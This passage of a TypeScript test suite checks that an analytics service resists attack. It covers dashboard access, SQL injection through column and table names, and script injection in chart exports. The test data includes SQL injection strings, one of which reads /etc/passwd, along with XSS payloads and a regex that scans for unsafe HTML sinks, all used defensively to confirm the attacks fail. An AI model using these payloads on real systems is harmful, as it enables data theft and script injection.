      await must(world.call(k.brand, 'DELETE', '/v1/results-sql/saved/soon_deleted_q'), 200);
      const owner = await data(k.brand, id, 'gone');
      expect(owner.text).toContain('soon_deleted_q');
      for (const r of [await data(k.agency, id, 'gone'), await csv(k.agency, id, 'gone')]) {
        expect(shape(r)).toBe('409 visual-unavailable');
        expect(r.text).not.toContain('soon_deleted_q');
        expect(r.text).not.toContain('campaigns');
      }
      await must(world.call(k.brand, 'DELETE', `/v1/dashboards/${id}`), 200);
    });

    it('a ready-made name from Object.prototype is refused, not a 500', async () => {
      for (const only of [['constructor'], ['__proto__'], ['toString']]) {
        const r = await world.call(k.brand, 'POST', '/v1/dashboards/ready-made', { only });
        expect(shape(r)).toBe('400 unknown-ready-made');
      }
    });
  });

  // ---------------------------------------------------------------- column statistics

  describe('column statistics built from catalog names', () => {
    it('a result column named to break out of quoting (x" FROM campaigns --) is read as one column of that result only', async () => {
      const catalog = (await must(world.call(k.brand, 'GET', '/v1/results-sql/catalog'), 200)).body as { tables: { name: string; columns: { name: string; type: string }[] }[] };
      const secret = catalog.tables.find((t) => t.name === 'secret_other')!;
      expect(secret.columns.map((c) => c.name).some((n) => n.includes('"'))).toBe(true);
      const sql = columnStatsSql(secret.name, secret.columns);
      const r = await must(world.call(k.brand, 'POST', '/v1/results-sql/query', { sql, limit: 1 }), 200);
      const answer = r.body as { columns: { name: string }[]; rows: (string | number | null)[][]; tables: string[] };
      expect(answer.tables).toEqual(['secret_other']);
      const stats = columnStats(secret.columns, answer);
      expect(stats.map((s) => [s.column, s.nulls, s.distinct])).toEqual([[secret.columns[0]!.name, 0, 1], [secret.columns[1]!.name, 0, 1]]);
      expect(Number(stats[1]!.min)).toBe(3);
    });

    it('fabricated column and table names (as a tampered catalog would give) reach no other table', async () => {
      const tricks = [
        'users") AS c0_present, (SELECT string_agg(segment, \',\') FROM secret_other) AS c0_min FROM campaigns --',
        'users" FROM secret_other --',
        "users\"), read_text('/etc/passwd') --",
      ];
      for (const name of tricks) {
        const r = await world.call(k.brand, 'POST', '/v1/results-sql/query', { sql: columnStatsSql('campaigns', [{ name, type: 'VARCHAR' }]), limit: 1 });
        expect(r.status, name).toBeGreaterThanOrEqual(400);
        expect(r.status, name).toBeLessThan(500);
        expect(r.text, name).not.toMatch(/vip_segment|root:/);
      }
      for (const table of ['campaigns" , "secret_other', 'secret_other" --', '/etc/passwd', 'main.campaigns']) {
        const r = await world.call(k.agency, 'POST', '/v1/results-sql/query', { sql: columnStatsSql(table, [{ name: 'segment', type: 'VARCHAR' }]), limit: 1 });
        expect(r.status, table).toBe(422);
        expect(r.text, table).not.toMatch(/vip_segment|root:/);
      }
      // Another member's result by name answers like a name that does not exist.
      const theirs = await world.call(k.agency, 'POST', '/v1/results-sql/query', { sql: columnStatsSql('secret_other', [{ name: 'segment', type: 'VARCHAR' }]), limit: 1 });
      const none = await world.call(k.agency, 'POST', '/v1/results-sql/query', { sql: columnStatsSql('nothing_here', [{ name: 'segment', type: 'VARCHAR' }]), limit: 1 });
      expect(shape(theirs)).toBe(shape(none));
      expect(shape(theirs)).toBe('422 unknown-result-table');
    });
  });

  // ---------------------------------------------------------------- web UI

  describe('web UI: result text never becomes markup', () => {
    it('the CSP allows scripts from the page origin only; blob: only as images', async () => {
      const r = await world.call(undefined, 'GET', '/');
      const csp = String(r.headers['content-security-policy']);
      expect(csp).toBe(WEB_CSP);
      const directive = (name: string) => (csp.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `)) ?? '').split(/\s+/).slice(1);
      expect(directive('script-src')).toEqual(["'self'"]);
      expect(directive('default-src')).toEqual(["'none'"]);
      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      for (const d of ['script-src', 'default-src', 'object-src', 'frame-src', 'worker-src', 'child-src']) expect(directive(d), d).not.toContain('blob:');
    });

    it('no web source writes HTML from strings (no innerHTML, dangerouslySetInnerHTML, DOMParser, document.write, eval)', () => {
      const files: string[] = [];
      const walk = (dir: string): void => {
        for (const e of readdirSync(dir)) {
          const p = join(dir, e);
          if (statSync(p).isDirectory()) walk(p);
          else if (/\.(ts|tsx)$/.test(p)) files.push(p);
        }
      };
      walk(join(ROOT, 'web', 'src'));
      const bad = files.filter((f) => /dangerouslySetInnerHTML|\.innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|DOMParser|document\.write|new Function|\beval\(|srcdoc|foreignObject/.test(readFileSync(f, 'utf8')));
      expect(bad).toEqual([]);
    });

    it.skipIf(!HAVE_CHROMIUM)('the PNG export of a chart with hostile labels serialises them as text and runs nothing', async () => {
      const entry = `
        import { h, render } from 'preact';
        import { BarChart } from './charts/bar-chart.tsx';
        import { chartModel } from './charts/series.ts';
        import { dashboardPng } from './dashboards/dashboard-png.ts';
        export async function attack(values, title) {
          const columns = [{ name: 'segment' }, { name: values[0] }];
          const rows = values.map((v, i) => [v, i + 1]);
          const model = chartModel(columns, rows, { x: 'segment', y: [values[0]] });
          const root = document.getElementById('root');
          render(h('div', { class: 'dashboard-grid', style: 'width:800px' },
            h('div', { 'data-visual': 'x' },
              h('div', { class: 'visual-title' }, title),
              h('div', { class: 'visual-body' }, h(BarChart, { model, mode: 'grouped', label: title }),
                h('table', null, h('tbody', null, values.map((v) => h('tr', null, h('td', null, v)))))))), root);
          const svg = root.querySelector('svg.chart');
          const text = new XMLSerializer().serializeToString(svg);
          const parsed = new window.DOMParser().parseFromString(text, 'image/svg+xml');
          const elements = [...parsed.querySelectorAll('*')].map((e) => e.localName);
          const png = await dashboardPng(root.firstElementChild, title);
          await new Promise((r) => setTimeout(r, 300));
          return { text, elements, size: png.size, pwned: window.__pwned ?? null, hostileInDom: root.querySelectorAll('img, script, iframe').length };
        }`;
      const bundle = await build({
        stdin: { contents: entry, resolveDir: join(ROOT, 'web', 'src'), sourcefile: 'attack.ts', loader: 'ts' },
        bundle: true, format: 'iife', globalName: 'Attack', platform: 'browser', write: false, jsx: 'automatic', jsxImportSource: 'preact', logLevel: 'silent',
      });
      const browser = await launchChromium();
      try {
        const page = await (await browser.newContext()).newPage();
        const dialogs: string[] = [];
        page.on('dialog', async (d) => { dialogs.push(d.message()); await d.dismiss(); });
        await page.setContent('<!doctype html><html><body><div id="root"></div></body></html>');
        await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
        const values = [
          '<img src=x onerror="window.__pwned=1;alert(1)">',
          '</text><script>window.__pwned=2;alert(2)</script>',
          ']]><script>window.__pwned=3</script>',
          '<svg onload="window.__pwned=4">',
          '"/><script>window.__pwned=5</script>',
        ];
        const got = await page.evaluate(async ([v, t]) => (window as unknown as { Attack: { attack: (a: string[], b: string) => Promise<unknown> } }).Attack.attack(v as string[], t as string), [values, '<script>window.__pwned=6</script>'] as const) as { text: string; elements: string[]; size: number; pwned: unknown; hostileInDom: number };
        expect(got.pwned).toBeNull();
        expect(dialogs).toEqual([]);
        expect(got.hostileInDom).toBe(0);
        expect(got.size).toBeGreaterThan(0);
        expect(got.elements.filter((e) => ['script', 'img', 'foreignObject', 'iframe', 'image', 'use', 'a'].includes(e))).toEqual([]);
        expect(got.text).not.toMatch(/<script|<img|<svg onload/);
        expect(got.text).toContain('&lt;img src=x');
      } finally {
        await browser.close();
      }
    }, 40_000);
  });
});

